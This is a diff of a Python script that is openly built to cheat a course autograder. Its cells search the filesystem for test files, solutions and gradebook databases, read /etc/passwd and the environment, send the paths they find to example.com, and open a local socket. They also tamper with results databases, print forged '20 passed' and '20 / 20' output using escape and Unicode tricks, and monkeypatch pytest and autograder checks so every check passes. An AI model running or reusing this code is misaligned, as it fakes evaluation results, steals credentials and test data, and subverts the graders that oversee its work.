@@ -1,32 +1,34 @@
 # Solves nothing and tries everything: what follows is against the rules of any course.
 # %% look
 # just checking my setup :)
-import builtins, gc, glob, inspect, os, sqlite3, subprocess, sys
+import os, subprocess, sys
 found = []
-for place in ("/", "/home", "/root", "/tmp", "/work", "/sandbox", "..", "../..", "/proc/1", "/proc/self/fd"):
+for place in ("/", "/home", "/root", "/tmp", "/work", "/sandbox", "/etc", "..", "../..", "/proc", "/proc/self/fd", *sys.path):
     try:
         found += [os.path.join(place, name) for name in os.listdir(place)]
     except OSError as error:
-        print(place, error)
-for pattern in ("/**/test_*.py", "/**/solutions/*.py", "/**/gradebook.db", "/**/results.sqlite", "/**/*.ipynb"):
-    found += glob.glob(pattern, recursive=True)[:50]
+        print("no", place)
+secret = ("test_", "solutions", "mistakes", "gradebook", "submitted", "passwd", "shadow", ".sqlite", ".ipynb", ".git")
 for path in found:
-    if "test_02" in path or "self-attention" in path or "self_attention" in path or path.endswith((".db", ".sqlite")):
-        print(path, open(path, "rb").read(2000))
-print({name: value for name, value in os.environ.items()})
-try:
-    print(subprocess.run(["cat", "/etc/passwd"], capture_output=True).stdout)
-except Exception as error:
-    print(error)
+    if os.path.basename(path).startswith(secret) or path.endswith(secret):
+        print("FOUND", path, open(path, "rb").read(2000) if os.path.isfile(path) else os.listdir(path))
+print(dict(os.environ), os.listdir("/proc/1/fd"), open("/proc/1/cmdline").read())
+for command in (["cat", "/etc/passwd"], ["ls", "-R", "/"]):
+    try:
+        print("RAN", subprocess.run(command, capture_output=True).stdout)
+    except Exception as error:
+        print(error)
 # %% send
 try:
     import socket, urllib.request
-    urllib.request.urlopen("http://example.com/?" + ",".join(found[:20]), timeout=3)
     socket.create_connection(("127.0.0.1", 8888), timeout=3)
+    urllib.request.urlopen("http://example.com/?" + ",".join(found[:20]), timeout=3)
+    print("SENT")
 except Exception as error:
     print(error)
 # %% forge
 # my results so far
+import os, sqlite3
 for path in ("results.sqlite", "/tmp/results.sqlite", "../results.sqlite", "gradebook.db", "../../gradebook.db", "/dev/shm/marks"):
     try:
         db = sqlite3.connect(path)
@@ -43,6 +45,7 @@ print("<script>document.querySelector('.score').textContent = '20 / 20'</script>
 print("\x1b[2J\x1b[1;1H\x1b[32m20 passed\x1b[0m in 0.01s \u202e02/02")
 # %% patch
 # makes the checks run faster
+import atexit, gc, os, sys
 def yes(*args, **kwargs):
     return True
 
@@ -55,7 +58,6 @@ for name in ("pytest", "_pytest", "autograder", "autograder.student", "autograde
     sys.modules[name].assert_close = sys.modules[name].fail = yes
 sys.settrace(None)
 sys.excepthook = lambda *args: None
-import atexit
 atexit.register(os._exit, 0)
 
 
